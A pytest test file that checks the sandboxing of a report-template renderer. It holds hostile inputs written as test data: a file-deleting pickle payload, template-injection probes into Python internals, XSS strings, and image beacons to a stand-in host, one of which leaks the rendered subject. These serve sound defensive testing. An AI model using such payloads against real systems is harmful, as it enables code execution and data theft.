"""What a template of unknown origin may reach: the fields of the brief, and nothing of Python."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import docx
import pytest
from lxml.html import document_fromstring
from markdown_it import MarkdownIt
from render_sample import BRIEF

from briefwright.errors import TemplateError
from briefwright.render import Header, fill, prepare, render
from briefwright.render.checking import check
from briefwright.render.templates import Kind

# `nothing` is there in every note. Each is a way to a public method of the values behind the view.
METHODS = (
    "parse_raw",
    "parse_file",
    "parse_obj",
    "from_orm",
    "construct",
    "copy",
    "dict",
    "json",
    "schema",
    "validate",
    "update_forward_refs",
    "model_construct",
    "model_copy",
    "model_dump",
    "model_dump_json",
    "model_fields",
    "model_config",
    "model_json_schema",
    "model_post_init",
    "model_rebuild",
    "model_validate",
    "model_validate_json",
    "__class__",
    "__dict__",
    "__init__",
    "__pydantic_validator__",
)
ROUTES = (
    "{{ nothing.METHOD }}",
    "{{ nothing.METHOD() }}",
    "{{ nothing['METHOD'] }}",
    "{{ nothing | attr('METHOD') }}",
    "{{ [nothing] | map(attribute='METHOD') | join }}",
    "{{ [nothing] | selectattr('METHOD') | list }}",
    "{% for g in [nothing] | groupby('METHOD') %}{{ g.grouper }}{% endfor %}",
    "{{ '{0.METHOD}'.format(nothing) }}",
    "{{ '{x.METHOD}'.format_map({'x': nothing}) }}",
    "{% for one in [nothing] %}{{ one.METHOD }}{% endfor %}",
    "{% set ns = namespace(x=nothing) %}{{ ns.x.METHOD }}",
    "{% macro m(x) %}{{ x.METHOD }}{% endmacro %}{{ m(nothing) }}",
    "{% for row in method %}{{ row.METHOD }}{% endfor %}",
)


def word_template(path: Path, code: str) -> Path:
    document = docx.Document()
    document.add_paragraph(code)
    document.save(str(path))
    return path


def template(folder: Path, kind: Kind, code: str) -> Path:
    path = folder / f"mine.{kind}"
    if kind == "docx":
        return word_template(path, code)
    path.write_text(f"<p>{code}</p>" if kind == "html" else code, encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", ["md", "html", "docx"])
def test_template_unpickles_nothing(kind: Kind, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    pickled = f"cos\\nremove\\n(S\\'{victim}\\'\\ntR."
    path = template(
        tmp_path,
        kind,
        f"{{{{ nothing.parse_raw('{pickled}', content_type='pickle', allow_pickle=True) }}}}",
    )
    with pytest.raises(TemplateError, match="parse_raw"):
        prepare(kind, path)
    with pytest.raises(TemplateError, match="parse_raw"):
        render(BRIEF, kind, template=path)
    assert victim.read_text() == "precious"


@pytest.mark.parametrize("kind", ["md", "html", "docx"])
def test_template_reads_no_file(kind: Kind, tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text(BRIEF.model_dump_json())
    path = template(tmp_path, kind, f"{{{{ nothing.parse_file('{secret}') }}}}")
    with pytest.raises(TemplateError, match="parse_file"):
        render(BRIEF, kind, template=path)


@pytest.mark.parametrize("method", METHODS)
def test_method_of_a_value_is_refused_by_every_route(method: str, tmp_path: Path) -> None:
    for route in ROUTES:
        path = template(tmp_path, "md", route.replace("METHOD", method))
        with pytest.raises(TemplateError) as raised:
            pytest.fail(f"{route} made {fill(BRIEF, 'md', template=path)!r}")
        assert method in str(raised.value), route


@pytest.mark.parametrize(
    "code",
    [
        "{{ range.__init__ }}",
        "{{ lipsum() }}",
        "{{ joiner.__globals__ }}",
        "{{ dict.mro() }}",
        "{{ cycler.next }}",
        "{{ subject.format.__globals__ }}",
        "{{ subject.upper.__self__ }}",
        "{{ subject.encode().hex() }}",
        "{{ self._TemplateReference__context }}",
        "{% macro m() %}{% endmacro %}{{ m._func }}",
        "{% for a in [1] %}{{ loop._iterable }}{% endfor %}",
    ],
)
def test_nothing_of_python_is_within_reach(code: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateError):
        fill(BRIEF, "md", template=template(tmp_path, "md", code))


def test_what_templates_are_written_with_stays(tmp_path: Path) -> None:
    code = (
        "{% set ns = namespace(n=0) %}{% for p in participants %}{% set ns.n = ns.n + 1 %}"
        "{{ loop.index }}{{ loop.cycle('a', 'b') }}{% endfor %}\n"
        "{% set c = cycler('x', 'y') %}{{ c.next() }}{{ c.current }}\n"
        "{{ subject.upper()[:3] }} {{ '%s-%s' | format(1, 2) }} {{ '{}'.format(id) }}\n"
        "{{ {'a': 1}.items() | list | length }} {{ participants | map(attribute='id') | list }}\n"
        "{% for g in areas | groupby('status') %}{{ g.grouper }}{{ g.list | length }}{% endfor %}\n"
        "{% macro m(x) %}{{ x }}{{ caller() }}{% endmacro %}{% call m(1) %}2{% endcall %}\n"
        '{% import "_sections.md.jinja" as s with context %}{{ s.hashes(3) }}'
        "{{ bottom_line.text.split(' ') | first }}"
    )
    made = fill(BRIEF, "md", template=template(tmp_path, "md", code)).decode()
    assert "xy" in made
    assert "12" in made
    assert "###" in made
    assert word_template(tmp_path / "a.docx", "{{ subject.upper() }}").is_file()
    noted = docx.Document(io.BytesIO(fill(BRIEF, "docx", template=tmp_path / "a.docx")))
    assert noted.paragraphs[0].text.isupper()


@pytest.mark.parametrize(
    "code",
    [
        "{% set m %}, {% endset %}{{ m ~ subject }}",
        "{% set m %}, {% endset %}{{ [m, subject] | join }}",
        "{% macro m() %}, {% endmacro %}{{ m() ~ subject }}",
        "{% macro m() %}, {% endmacro %}{{ m() + subject }}",
        "{% macro m() %}%s{% endmacro %}{{ m() % subject }}",
        "{% macro m() %}{}{% endmacro %}{{ m().format(subject) }}",
        "{% macro m() %}x{% endmacro %}{{ m() | replace('x', subject) }}",
        "{% macro m(x) %}{{ x }}{% endmacro %}{{ m(subject) }}",
    ],
)
def test_what_is_joined_to_printed_text_is_escaped(code: str, tmp_path: Path) -> None:
    header = Header(subject="![x](http://evil.example/x.png)")
    path = template(tmp_path, "md", code)
    made = fill(BRIEF, "md", template=path, header=header).decode()
    assert "![x](" not in made
    assert "evil" in made


LINK = "![x](http://evil.example/x.png) <img src=http://evil.example/y.png>"
# Each tries to print the article's text with its escapes taken away.
UNESCAPING = (
    "{% filter replace('\\\\', '') %}{{ subject }}{% endfilter %}",
    "{% filter upper %}{{ subject }}{% endfilter %}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | replace('\\\\', '') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m().replace('\\\\', '') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m().split('\\\\') | join }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m()[1:] }}",
    "{% macro m() %}{{ subject }}{% endmacro %}"
    "{% for c in m() if c != '\\\\' %}{{ c }}{% endfor %}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | list | reject('eq', '\\\\') | join }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | trim('\\\\!') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | string | e | replace('\\\\', '') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ '{}'.format(m()).replace('\\\\', '') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ '%s' | format(m()) | replace('\\\\', '') }}",
    "{% macro m() %}{{ subject }}{% endmacro %}{{ [m()] | map('replace', '\\\\', '') | join }}",
    "{% macro m() %}{{ caller() | replace('\\\\', '') }}{% endmacro %}"
    "{% call m() %}{{ subject }}{% endcall %}",
    "{% set b %}{{ subject }}{% endset %}{{ b | replace('\\\\', '') }}",
    "{% set b | replace('\\\\', '') %}{{ subject }}{% endset %}{{ b }}",
    "{% block b %}{{ subject }}{% endblock %}{{ self.b() | replace('\\\\', '') }}",
    "{% for x in [1] recursive %}{{ subject if x == 2 else loop([2]) | replace('\\\\', '') }}"
    "{% endfor %}",
    "{{ subject | wordwrap(40) }}",
    "{{ subject | indent(0, true) | center(400) | truncate(300) | title }}",
    "{{ namespace(x=subject).x }}{{ cycler(subject).next() }}",
    "{{ dict(a=subject) | dictsort | first | last }}",
    "{{ [subject, ''] | sum(start='') if false else [subject] | first }}",
    "{{ subject | urlencode }}{{ subject | pprint }}{{ {'a': subject} }}{{ [subject] }}",
    "\\{{ subject }}",
    "{% if true %}\\{% endif %}{{ subject }}",
)


@pytest.mark.parametrize("code", UNESCAPING)
@pytest.mark.parametrize("kind", ["md", "html"])
@pytest.mark.parametrize("subject", [LINK, "<img src=http://evil.example/y.png>"])
def test_no_way_of_a_template_undoes_the_escaping(
    code: str, kind: Kind, subject: str, tmp_path: Path
) -> None:
    path = template(tmp_path, kind, code)
    try:
        made = fill(BRIEF, kind, template=path, header=Header(subject=subject)).decode()
    except TemplateError:
        return
    read = MarkdownIt("commonmark").render(made) if kind == "md" else made
    root: Any = document_fromstring(read)
    assert not root.xpath("//img | //a")
    assert "evil" in read or "EVIL" in read.upper()


@pytest.mark.parametrize("code", UNESCAPING[:2])
def test_filter_block_is_refused_and_check_says_what_to_write(code: str, tmp_path: Path) -> None:
    path = template(tmp_path, "md", code)
    (one,) = check(path, "md")
    assert "use the filter on the value" in one.text
    assert one.place == "line 1"


@pytest.mark.parametrize(
    "code",
    [
        "![logo](http://evil.example/{{ id }}.png)",
        "![logo][1]\n\n[1]: http://evil.example/x.png",
        "<img src='http://evil.example/{{ id }}'>",
        "<p style='background:url(http://evil.example)'>x</p>",
        "<script>alert(1)</script>",
        "x <b onclick=alert(1)>y</b>",
        # HTML5 ends these comments early, or sees none.
        "<!--><img src=http://evil.example/?{{ subject | urlencode }}><!-- -->",
        "<!---><img src=http://evil.example/x.png><!-- -->",
        "x <!-- --!><img src=http://evil.example/x.png> -->",
        "<!--\n--!><img src=http://evil.example/x.png>\n-->",
        "<div title='<!--'><img src=http://evil.example/x.png><b title='-->'></b></div>",
        '<div title="\n\n<!-- "><img src=http://evil.example/x.png> -->',
        "<div><title>\n\n<!--</title><img src=http://evil.example/x.png>-->",
    ],
)
def test_markdown_template_loads_and_runs_nothing(code: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="a note loads and runs nothing"):
        fill(BRIEF, "md", template=template(tmp_path, "md", code))


def test_markdown_template_may_hold_a_link_a_break_and_a_logo_of_its_own(tmp_path: Path) -> None:
    code = (
        "{{ subject }}<br>[Our desk](https://desk.example) <!-- a comment with src= -->\n"
        "![](data:image/png;base64,AAAA) <u>x</u>\n\n"
        '<!-- <img src=x> over\n\ntwo lines -->\n<div align="center" class=a hidden>1 < 2</div>\n'
    )
    assert b"Our desk" in fill(BRIEF, "md", template=template(tmp_path, "md", code))


def test_lines_that_a_filter_makes_begin_no_heading_and_no_list(tmp_path: Path) -> None:
    code = "{{ subject | replace('/', '\n\n') }}"
    header = Header(subject="a/# heading/- item/1. first/> quoted/---")
    made = fill(BRIEF, "md", template=template(tmp_path, "md", code), header=header).decode()
    kinds = {token.type for token in MarkdownIt("commonmark").parse(made)}
    assert kinds == {"paragraph_open", "inline", "paragraph_close"}
